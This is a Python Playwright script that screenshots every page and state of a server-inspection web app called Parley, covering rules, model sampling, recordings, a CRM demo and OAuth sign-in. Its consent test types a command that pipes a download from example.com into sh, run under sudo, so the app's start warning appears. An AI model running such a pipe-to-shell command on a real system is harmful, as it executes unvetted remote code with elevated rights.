"""Pictures of every page and state, at three widths, light and dark: `python -m tests.screenshots [FOLDER [NAME …]]`.

Starts Parley with the demo server in both eras, a small CRM and a protected server, brings sessions into every state
(nothing yet, asks open, answered and withdrawn, results long and short, calls compared, signed in or not, a server that
did not start and one that is lost), and writes PNGs into .screenshots/, for people to look at. `--readme` writes the
pictures that README.md shows.
"""

import os
import shlex
import signal
import sys
from pathlib import Path
from typing import Any, Literal

from playwright.sync_api import Page, expect, sync_playwright

from tests import screenshots_room, screenshots_team
from tests.browser.desk import recorded_pages
from tests.browser.parley import ROOT, Parley, launch, running
from tests.drive_oauth import Harbour, protected

SIZES = {1440: (1440, 900), 1024: (1024, 768), 390: (390, 844)}
SCHEMES: tuple[Literal["light", "dark"], ...] = ("light", "dark")
SERVERS = str(ROOT / "tests" / "servers")
CRM = {"transport": "stdio", "command": "python3", "args": ["crm.py"], "cwd": SERVERS}
"""By name and folder, as a person types it: a picture shows no path of this machine."""
ACCOUNTS = {**CRM, "args": ["accounts.py"]}
README = {
    "inbox": (1440, "light"),
    "tool-result": (1440, "dark"),
    "compare": (1440, "light"),
    "model-check": (1260, "light"),
    "rules": (1260, "light"),
    "sign-in-failed": (1440, "light"),
}
FOR_README = {1440: SIZES[1440], 1260: (1260, 660)}
"""Three panes fit into less than the widest page, and so into a lighter picture."""


class Studio:
    """A Parley, a page of it, and the sessions that its pictures need."""

    def __init__(self, parley: Parley, page: Page, harbour: Harbour) -> None:
        self.parley, self.page, self.harbour = parley, page, harbour
        self.rule_from = ""
        """A page with an ask that was answered, for a rule that is made from it."""
        self.model_asks = self.tool_asks = ""
        """Pages with a sampling that waits: for a model, and one that offers tools."""

    def open(self, target: dict[str, Any], **options: Any) -> str:
        """A session that is connected; its path."""
        path = str(self.parley.script("POST", "/s", target=target, options=options)["url"])
        assert self.get(f"{path}?wait=30")["connection"]["state"] == "ready"
        return path

    def get(self, path: str) -> Any:
        return self.parley.script("GET", path)

    def call(self, path: str, name: str, *, wait: bool = True, **arguments: Any) -> str:
        """A call by script; its id."""
        params = {"name": name, "arguments": arguments}
        call = str(self.parley.script("POST", f"{path}/calls", method="tools/call", params=params)["id"])
        if wait:
            self.get(f"{path}/calls/{call}?wait=30")
        return call

    def call_here(self, path: str, name: str, arguments: str) -> None:
        """A call in this tab, as a person makes it: its form folds."""
        self.page.goto(f"{self.parley.origin}{path}/tools/{name}?as=json")
        self.page.fill("#arguments", arguments)
        self.page.click("#call-go")
        expect(self.page.locator(".call .st").first).to_have_attribute("data-s", "done")

    def answer_all(self, path: str, **content: Any) -> None:
        """Everything that a session is asked, answered by decline but for one form."""
        for ask in self.get(f"{path}/inbox?wait=20")["open"]:
            said: dict[str, Any] = {"action": "decline"}
            if ask["kind"] == "form" and content:
                said = {"action": "accept", "content": content, "force": True}
            self.parley.script("POST", f"{path}/asks/{ask['id']}/answer", **said)


def pages(base: str, origin: str, selected: int) -> dict[str, str]:
    """Every page that any session has, by the name of its picture; `selected` is a message of it."""
    return {
        "home": f"{origin}/",
        "about": f"{origin}/about",
        "missing": f"{origin}/s/nothing-here",
        "overview": base,
        "tools": f"{base}/tools",
        "tools-by-name": f"{base}/tools?sort=name",
        "tool": f"{base}/tools/add",
        "tool-error": f"{base}/tools/tool_error",
        "tool-media": f"{base}/tools/postcard",
        "calls": f"{base}/calls",
        "call": f"{base}/calls/c1",
        "log": f"{base}/log",
        "message": f"{base}/log/{selected}",
        "log-no-match": f"{base}/log?q=nothing-says-this",
        "stderr": f"{base}/stderr",
        "resources": f"{base}/resources",
        "resource": f"{base}/resources/one?uri=desk%3A%2F%2Fguide",
        "templates": f"{base}/resources/templates",
        "template": f"{base}/resources/templates/departures",
        "prompts": f"{base}/prompts",
        "prompt": f"{base}/prompts/plan_weekend",
        "logging": f"{base}/logging",
        "compose": f"{base}/compose?method=tools/call",
        "roots": f"{base}/roots",
        "tasks": f"{base}/tasks",
        "timeline": f"{base}/timeline",
        "connect": f"{base}/connect",
    }


def demo_pages(studio: Studio) -> dict[str, str]:
    """The demo in the older era: every page, and a few calls."""
    base = studio.open({"transport": "demo"}, era="legacy")
    studio.call(base, "echo", message="Hello, server")
    for name in ("tool_error", "postcard", "timetable"):
        studio.call(base, name)
    studio.call(base, "add", a=2, b=40)
    studio.get(f"{base}/counts")
    return pages(base, "", studio.get(f"{base}/log")["messages"][-1]["seq"])


def asking_pages(studio: Studio) -> dict[str, str]:
    """Asks that are open, asks that were answered, and a parade on the stage."""
    waiting = studio.open({"transport": "demo"}, era="legacy")
    studio.call(waiting, "three_at_once", wait=False, ttl_ms=600_000)
    studio.get(f"{waiting}/inbox?wait=20")
    answered = studio.open({"transport": "demo"}, era="legacy")
    studio.call(answered, "preferences", wait=False)
    studio.answer_all(answered, outputFormat="plain", includeTimestamps=True)
    first = studio.get(f"{answered}/calls")["calls"][-1]["id"]
    second = studio.call(answered, "preferences", wait=False)
    studio.get(f"{answered}/inbox?wait=20")
    kept = studio.open({"transport": "demo"}, era="legacy")
    studio.call(kept, "preferences", wait=False, as_task=True, ttl_ms=600_000)
    studio.get(f"{kept}/inbox?wait=20")
    parade = studio.open({"transport": "demo"}, era="legacy")
    studio.call(parade, "parade", wait=False)
    studio.get(f"{parade}/inbox?wait=20")
    return {
        "inbox": f"{waiting}/tools/three_at_once",
        "inbox-page": f"{waiting}/inbox",
        "ask": f"{waiting}/asks/a1",
        "answered": f"{answered}/tools/preferences",
        "answered-page": f"{answered}/inbox",
        "compare-open": f"{answered}/compare?left={first}&right={second}",
        "task": f"{kept}/tasks/{studio.get(f'{kept}/tasks')['receiver'][0]['id']}",
        "task-call": f"{kept}/tools/preferences",
        "stage": f"{parade}/stage",
    }


PREFERENCES = {"outputFormat": "plain", "includeTimestamps": True}
CAPTION = {"role": "assistant", "content": {"type": "text", "text": "Tea at dawn."}, "model": "human"}
RULES: tuple[dict[str, Any], ...] = (
    {
        "name": "Plain with timestamps",
        "on": True,
        "when": {"kind": "form", "tool": "preferences"},
        "do": {"action": "accept", "content": PREFERENCES},
    },
    {
        "name": "Captions by model",
        "when": {"kind": "sampling", "tool": "write_*"},
        "do": {"action": "model"},
        "per_minute": 10,
    },
    {
        "name": "Plain for exports",
        "when": {"kind": "form", "tool": "three_*", "fields": ["outputFormat", "*"]},
        "do": {"action": "accept", "content": PREFERENCES},
        "delay_ms": 1500,
        "most": 50,
    },
    {"name": "No marketing mail", "when": {"kind": "form", "message": "*newsletter*"}, "do": {"action": "decline"}},
    {"name": "Break sampling", "when": {"kind": "sampling"}, "do": {"action": "fail", "code": -1}},
)


def rule_pages(studio: Studio) -> dict[str, str]:
    """Answer rules: none yet, some, one that is tried, one that has answered, one that will, one from an answer."""
    script, rules = studio.parley.script, studio.open({"transport": "demo"}, era="legacy")
    empty = studio.open({"transport": "demo"}, era="legacy")
    for name in ("preferences", "write_caption", "three_at_once"):
        call = studio.call(rules, name, wait=False)
        while studio.get(f"{rules}/calls/{call}")["state"] not in ("done", "failed"):
            studio.answer_all(rules, **PREFERENCES)
    for rule in RULES:
        script("POST", f"{rules}/rules", **rule)
    for _ in range(2):
        studio.call(rules, "preferences")
    waits = studio.open({"transport": "demo"}, era="legacy")
    studio.call(waits, "preferences", wait=False)
    studio.answer_all(waits, **PREFERENCES)
    script("POST", f"{waits}/rules", **{**RULES[0], "delay_ms": 600_000})
    studio.call(waits, "preferences", wait=False)
    studio.get(f"{waits}/inbox?wait=20")
    studio.rule_from = f"{waits}/tools/preferences"
    return {
        "rules-empty": f"{empty}/rules",
        "rules": f"{rules}/rules",
        "rule": f"{rules}/rules/r3",
        "rule-new": f"{rules}/rules/new",
        "rule-answered": f"{rules}/tools/preferences",
        "rule-waits": f"{waits}/tools/preferences",
    }


MODELS: tuple[dict[str, Any], ...] = (
    {"name": "fast", "provider": "openai", "model": "gpt-4o-mini", "speed": 0.9, "cost": 0.8, "key": "none"},
    {"name": "local", "provider": "openai", "model": "llama3.2", "base_url": "http://127.0.0.1:9/v1"},
    {"name": "ferry captions", "provider": "canned", "text": "First light on the harbour, and the early ferry hums."},
)


def model_pages(studio: Studio) -> dict[str, str]:
    """Sampling by a model: the request to check, the answer to check, a failure, one that was sent; and the models."""
    base = studio.open({"transport": "demo"}, era="legacy")
    found = {"models-empty": f"{base}/models"}
    script = studio.parley.script
    for name, model in (
        ("model-request", ""),
        ("model-answer", "ferry captions"),
        ("model-failed", "local"),
        ("model-sent", "ferry captions"),
    ):
        base = studio.open({"transport": "demo"}, era="legacy")
        for one in MODELS:
            script("POST", f"{base}/models", **one)
        studio.call(base, "write_caption", wait=False)
        [ask] = studio.get(f"{base}/inbox?wait=20")["open"]
        path = f"{base}/asks/{ask['id']}"
        edited = {**ask["params"], "maxTokens": 120, "systemPrompt": "You write for a small ferry company. No puns."}
        script("POST", f"{path}/request", request=edited)
        if model:
            script("POST", f"{path}/draft", model=model)
            while (draft := studio.get(path)["draft"])["state"] == "streaming":
                studio.page.wait_for_timeout(50)
            if name == "model-sent":
                content = {"type": "text", "text": "First light on the harbour, and a ferry."}
                script("POST", f"{path}/answer", action="respond", result={**draft["content"], "content": content})
        if name == "model-answer":
            found["model-check"] = path
        found[name] = path if name == "model-sent" else f"{base}/tools/write_caption"
    studio.model_asks = found.pop("model-request")
    tools = studio.open({"transport": "demo"}, era="legacy")
    studio.call(tools, "ask_with_tools", wait=False)
    studio.get(f"{tools}/inbox?wait=20")
    studio.tool_asks = f"{tools}/tools/ask_with_tools"
    return found | {"models": f"{base}/models"}


def model_request(studio: Studio) -> None:
    """The first checkpoint: which model is to write."""
    studio.page.goto(studio.parley.origin + studio.model_asks)
    studio.page.locator(".by label", has_text="Model").click()


def tool_use(studio: Studio) -> None:
    """A tool use that somebody composes."""
    page = studio.page
    page.goto(studio.parley.origin + studio.tool_asks)
    page.locator(".by label", has_text="Tool use").click()
    page.locator(".uses select, .use").first.wait_for()


def recording_pages(studio: Studio) -> dict[str, str]:
    """A session that is recorded, one that was, what is masked in it, and a moment that is about to be shared."""
    script = studio.parley.script
    live, base = (studio.open({"transport": "demo"}, era="legacy") for _ in range(2))
    kept = f"/r/{script('POST', f'{base}/record', on=True)['rid']}"
    script("POST", f"{live}/record", on=True)
    for one in (base, live):
        studio.call(one, "preferences", wait=False)
        studio.answer_all(one, **PREFERENCES)
        studio.call(one, "echo", message="Hello, server")
        studio.call(one, "echo", message="Hello again", password="correct horse battery")
    script("POST", f"{base}/record", on=False)
    script("POST", f"{base}/close")  # nobody has more than twenty
    selected = studio.get(f"{kept}/log")["messages"][-2]["seq"]
    moment = {"call": studio.get(f"{kept}/calls")["calls"][-1]["id"], "note": "The form takes any format."}
    shared = script("POST", f"{kept}/moments", title="A format that nobody has", **moment)["url"]
    return recorded_pages(kept) | {
        "recordings-found": "/recordings?q=hello",
        "recording-live": live,
        "recording-log": f"{kept}/log/{selected}",
        "recording-timeline-table": f"{kept}/timeline?view=table",
        "moment": f"{kept}/moments?call={moment['call']}",
        "moment-live": f"{live}/moments?call={studio.get(f'{live}/calls')['calls'][-1]['id']}",
        "moment-shared": shared,
    }


def crm_pages(studio: Studio) -> dict[str, str]:
    """Results long and short, a large form, and two calls side by side."""
    crm = studio.open(CRM)
    studio.call_here(
        crm, "search_accounts", '{"query": "energy", "stage": "customer", "min_value": 10000, "limit": 20}'
    )
    studio.call(crm, "search_accounts", query="energy", stage="customer", limit=12)
    studio.call_here(crm, "wrapped", '{"value": "short"}')
    form = studio.open(ACCOUNTS)
    lost = studio.open(CRM)
    studio.call(lost, "search_accounts", query="energy", limit=3)
    os.kill(studio.get(lost)["connection"]["pid"], signal.SIGKILL)
    studio.get(f"{lost}?wait=5")
    saved = next(one["id"] for one in studio.get("/")["targets"] if one["label"] == "python3 crm.py")
    body = {
        "method": "tools/call",
        "params": {"name": "search_accounts", "arguments": {"query": "energy", "limit": 20}},
    }
    studio.parley.script("POST", f"/targets/{saved}/requests", name="Energy, the first 20", **body)
    return {
        "tool-result": f"{crm}/tools/search_accounts",
        "result-short": f"{crm}/tools/wrapped",
        "compare": f"{crm}/compare?left=c1&right=c2",
        "tool-form": f"{form}/tools/create_account",
        "tool-json": f"{form}/tools/create_account?as=json",
        "lost": f"{lost}/tools/search_accounts",
        "lost-overview": lost,
        "requests": f"/targets/{saved}/requests",
    }


def modern_pages(studio: Studio) -> dict[str, str]:
    """2026-07-28: a call in rounds with its asks in place, and subscriptions."""
    base = studio.open({"transport": "demo"}, era="modern")
    call = studio.call(base, "book_ferry", wait=False)
    studio.get(f"{base}/inbox?wait=20")
    return {"rounds": f"{base}/calls/{call}", "subscriptions": f"{base}/subscriptions", "overview-modern": base}


def sign_in_pages(studio: Studio) -> dict[str, str]:
    """A protected server: its card, the steps of a sign-in that failed, and of one that is whole."""
    harbour = studio.harbour

    def begun() -> str:
        target = {"transport": "http", "url": harbour.resource}
        path = str(studio.parley.script("POST", "/s", target=target)["url"])
        studio.get(f"{path}?wait=30")
        studio.get(f"{path}/sign-in?wait=30")
        return path

    waiting = begun()
    harbour.set(fault="wrong issuer")
    failed = begun()
    harbour.set(fault=None, jwt=True)
    whole = begun()
    back = harbour.allow(studio.get(f"{whole}/sign-in")["authorization_url"])
    studio.parley.script("POST", f"{whole}/sign-in", callback_url=back)
    studio.get(f"{whole}/sign-in?wait=30")
    studio.get(f"{whole}?wait=30")
    return {
        "sign-in-card": waiting,
        "sign-in-waiting": f"{waiting}/sign-in",
        "sign-in-failed": f"{failed}/sign-in",
        "sign-in": f"{whole}/sign-in",
        "signed-in": whole,
    }


def consent(studio: Studio) -> None:
    page = studio.page
    page.goto(f"{studio.parley.origin}/")
    page.fill("#command_line", "env sudo python server.py --root '/tmp/a b' -c 'curl https://example.com/x | sh'")
    page.get_by_role("button", name="Connect", exact=True).click()
    page.get_by_role("button", name="Start it").wait_for()


def failed(studio: Studio) -> None:
    page = studio.page
    page.goto(f"{studio.parley.origin}/")
    page.fill("#command_line", shlex.join([sys.executable, "-c", "import sys; sys.exit('No such file: travel.py')"]))
    page.get_by_role("button", name="Connect", exact=True).click()
    start = page.get_by_role("button", name="Start it")
    start.or_(page.locator("#trouble")).first.wait_for()
    if start.count():
        start.click()
    page.wait_for_selector("#trouble")


def palette(studio: Studio) -> None:
    page = studio.page
    page.keyboard.press("Control+k")
    expect(page.locator("#palette-list [role=option]").first).to_be_visible()


def rule_from_ask(studio: Studio) -> None:
    """An answered ask, opened, and the rule that it would become."""
    page = studio.page
    page.goto(studio.parley.origin + studio.rule_from)
    page.locator("#past > summary").click()
    card = page.locator("#settled > .ask").last
    card.locator("summary").first.click()
    card.get_by_text("Make a rule").click()
    card.get_by_role("button", name="Save rule").wait_for()


STATES = {
    "rule-from-ask": rule_from_ask,
    "model-request": model_request,
    "tool-use": tool_use,
    "consent": consent,
    "failed-connect": failed,
}


def take(
    studio: Studio, folder: Path, addresses: dict[str, str], only: set[str], sizes: dict[int, tuple[int, int]]
) -> None:
    """Every page and state, at every width, light and dark."""
    page, origin = studio.page, studio.parley.origin
    for width, (across, down) in sizes.items():
        for scheme in SCHEMES:
            page.set_viewport_size({"width": across, "height": down})
            page.emulate_media(color_scheme=scheme)

            def shoot(name: str, suffix: str = f"{width}-{scheme}", *, tall: bool = width == 390) -> None:
                page.wait_for_timeout(250)
                page.screenshot(path=folder / f"{name}-{suffix}.png", full_page=tall)

            for name, address in addresses.items():
                if not only or name in only:
                    page.goto(origin + address)
                    shoot(name)
            for name, steps in STATES.items():
                if not only or name in only:
                    steps(studio)
                    shoot(name)
            if not only or "palette" in only:
                page.goto(origin + addresses["overview"])
                palette(studio)
                shoot("palette", tall=False)


def main(arguments: list[str]) -> int:
    for_readme = "--readme" in arguments
    rest = [one for one in arguments if one != "--readme"]
    folder = Path(rest[0]) if rest else ROOT / ".screenshots"
    folder.mkdir(exist_ok=True)
    (folder / ".gitignore").write_text("*\n", encoding="utf-8")
    only = set(README) if for_readme else set(rest[1:])
    with running() as parley, protected() as harbour, sync_playwright() as playwright:
        browser = launch(playwright)
        page = browser.new_context().new_page()
        parley.login(page)
        studio = Studio(parley, page, harbour)
        stranger = browser.new_page()
        for width, (across, down) in SIZES.items():
            for scheme in SCHEMES if not only else ():
                page.set_viewport_size({"width": across, "height": down})
                page.emulate_media(color_scheme=scheme)
                page.goto(f"{parley.origin}/")
                page.screenshot(path=folder / f"home-empty-{width}-{scheme}.png", full_page=width == 390)
                stranger.set_viewport_size({"width": across, "height": down})
                stranger.emulate_media(color_scheme=scheme)
                stranger.goto(parley.server)
                stranger.screenshot(path=folder / f"signed-out-{width}-{scheme}.png")
        addresses: dict[str, str] = {}
        for more in (
            demo_pages,
            asking_pages,
            rule_pages,
            model_pages,
            recording_pages,
            crm_pages,
            modern_pages,
            sign_in_pages,
        ):
            addresses |= more(studio)
        take(studio, folder, addresses, only, FOR_README if for_readme else SIZES)
        browser.close()
    if not for_readme and (not only or any(one.startswith("team-") for one in only)):
        screenshots_team.take(folder, {one for one in only if one.startswith("team-")})
    if not for_readme and not only:
        screenshots_room.take(folder, set())
    if for_readme:
        for name, (at, shade) in README.items():
            (ROOT / ".pictures" / f"{name}-{shade}.png").write_bytes((folder / f"{name}-{at}-{shade}.png").read_bytes())
    print(f"{len(list(folder.glob('*.png')))} pictures in {folder}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
